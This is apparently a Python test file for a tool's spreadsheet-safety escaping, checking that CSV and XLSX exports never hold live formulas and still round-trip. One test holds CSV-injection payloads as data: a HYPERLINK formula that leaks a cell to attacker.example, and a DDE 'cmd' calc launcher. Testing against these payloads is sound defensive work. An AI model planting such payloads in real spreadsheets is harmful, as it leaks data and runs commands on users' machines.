"""Issue 17 item 8: no text voc writes into a spreadsheet is evaluated as a formula, and exports round-trip."""

from __future__ import annotations

import io
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from voc.indicators.io import dump_tree, parse_tree
from voc.indicators.xlsx import read_xlsx
from voc.spreadsheet_safety import FORMULA_TRIGGERS, escape_text, is_formula_like, unescape_text

# Text an indicator can hold: XML cannot carry C0 controls, surrogates or non-characters in any cell.
_CHARS = st.characters(blacklist_categories=("Cc", "Cs", "Cn"))
_TRIGGER_OR_NOT = st.sampled_from(["", *sorted(FORMULA_TRIGGERS), "'", "'=", "''"])
_FIELD = st.tuples(_TRIGGER_OR_NOT, st.text(_CHARS, max_size=30)).map("".join)
# Names and keywords are stripped when read (the model never holds edge whitespace), so they are
# generated stripped; keywords also may not contain the keyword separators.
_NAME = _FIELD.map(str.strip).filter(bool)
_KEYWORD = _NAME.filter(lambda word: not any(sep in word for sep in ",，、;；|/\n"))
_SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@_SETTINGS
@given(value=st.tuples(_TRIGGER_OR_NOT, st.text(max_size=20)).map("".join))
def test_csv_escape_round_trips_and_leaves_no_formula(value: str) -> None:
    escaped = escape_text(value)
    assert unescape_text(escaped) == value
    assert not is_formula_like(escaped)


def test_csv_escape_examples() -> None:
    assert escape_text('=HYPERLINK("http://x.example/","详情")') == '\'=HYPERLINK("http://x.example/","详情")'
    assert escape_text("@极速达物流 很快") == "'@极速达物流 很快"
    assert escape_text("＝1+1") == "'＝1+1"
    assert escape_text("-3") == "-3" and escape_text("+86") == "+86"  # numbers stay numbers
    assert escape_text("服务态度") == "服务态度"


@_SETTINGS
@given(name=_NAME, definition=_FIELD.map(str.strip), question=_FIELD.map(str.strip),
       keywords=st.lists(_KEYWORD, max_size=3, unique=True))
def test_indicator_xlsx_export_has_no_formula_and_round_trips(
        name: str, definition: str, question: str, keywords: list[str]) -> None:
    tree = parse_tree({"indicators": [
        {"id": "g", "name": "服务", "children": [
            {"id": "g.1", "name": name, "definition": definition, "keywords": keywords,
             "survey_question": question or None},
        ]},
    ]})
    data = dump_tree(tree, "xlsx")

    sheet = load_workbook(io.BytesIO(data)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "export.xlsx"
        path.write_bytes(data)
        again = read_xlsx(path).find("g.1").node
    original = tree.find("g.1").node
    assert (again.name, again.definition, again.keywords, again.survey_question) == (
        original.name, original.definition, original.keywords, original.survey_question)


def test_indicator_xlsx_export_hyperlink_example() -> None:
    payload = '=HYPERLINK("http://attacker.example/?leak="&A2,"点击查看")'
    tree = parse_tree({"indicators": [{"id": "x", "name": payload, "definition": "+cmd|' /C calc'!A0"}]})
    sheet = load_workbook(io.BytesIO(dump_tree(tree, "xlsx"))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    assert cells[payload].data_type == "s" and cells[payload].quotePrefix
    assert cells["+cmd|' /C calc'!A0"].data_type == "s"

